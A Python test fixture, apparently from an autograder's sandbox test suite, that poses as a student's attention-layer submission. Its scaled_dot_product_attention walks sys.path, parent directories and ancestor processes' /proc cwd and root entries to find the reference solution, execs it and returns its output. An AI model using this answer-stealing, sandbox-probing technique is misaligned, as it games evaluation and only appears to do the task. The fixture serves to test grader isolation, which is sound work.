# ruff: noqa
"""ATTACK hunt_read_files (class: hunting the reference: walking sys.path, parent
directories, /proc).

Intent: find the reference's source and run it: look for reference/01_attention.py,
autograder/stages/01_attention.py and solutions/01_attention/01_attention.ipynb under
every sys.path entry, every parent of the working directory and of autograder.__file__,
every ancestor's /proc/<pid>/cwd and /proc/<pid>/root, and the grader's source directory
(a well-known path). It returns what the first scaled_dot_product_attention it finds
returns; without one, zeros.

Expected: scaled_dot_product_attention 0, the rest full marks.
"""

import json
import math
import os
import sys

import torch

ATTACK = "hunt_read_files"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox
REPO = "__REPO__"


def _ancestors():
    """(pid, argv) of every ancestor process, nearest first."""
    chain, pid = [], os.getpid()
    for _ in range(32):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                ppid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if ppid <= 1:
            break
        try:
            with open(f"/proc/{ppid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            argv = []
        chain.append((ppid, argv))
        pid = ppid
    return chain


def _is_grader(argv):
    """The grader's own processes (fork server, CLI), never the test runner above them."""
    return any(
        a == "autograder" or "autograder.sandbox.forkserver" in a or a.endswith("/bertlab") for a in argv
    )


RELATIVE = (
    "reference/01_attention.py",
    "autograder/stages/01_attention.py",
    "solutions/01_attention/01_attention.ipynb",
)


def _parents(path):
    out = []
    while True:
        out.append(path)
        if os.path.dirname(path) == path:
            return out
        path = os.path.dirname(path)


def _roots():
    roots = [REPO, *sys.path, *_parents(os.getcwd())]
    try:
        import autograder

        roots += _parents(os.path.dirname(os.path.abspath(autograder.__file__)))
    except Exception:
        pass
    for pid, _argv in _ancestors():
        roots += [f"/proc/{pid}/cwd", f"/proc/{pid}/root" + REPO]
    return roots


def _source(path):
    with open(path) as f:
        text = f.read()
    if path.endswith(".ipynb"):
        cells = json.load(open(path))["cells"]
        text = "\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "code")
    return text


def _steal():
    for root in _roots():
        for rel in RELATIVE:
            path = os.path.join(root or ".", rel)
            try:
                ns = {"__name__": "stolen"}
                exec(compile(_source(path), path, "exec"), ns)
            except BaseException:
                continue
            fn = ns.get("scaled_dot_product_attention")
            if callable(fn):
                return fn
    return None


def scaled_dot_product_attention(q, k, v, mask=None):
    stolen = _steal()
    if stolen is not None:
        return stolen(q, k, v, mask)
    z = torch.zeros(*q.shape[:-1], v.size(-1), dtype=q.dtype)
    return z, torch.zeros(*q.shape[:-1], k.size(-2), dtype=q.dtype)


def softmax(x, dim=-1):
    # subtract the max so that exp() never overflows
    x_max = x.max(dim=dim, keepdim=True).values
    e = torch.exp(x - x_max)
    return e / e.sum(dim=dim, keepdim=True)


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
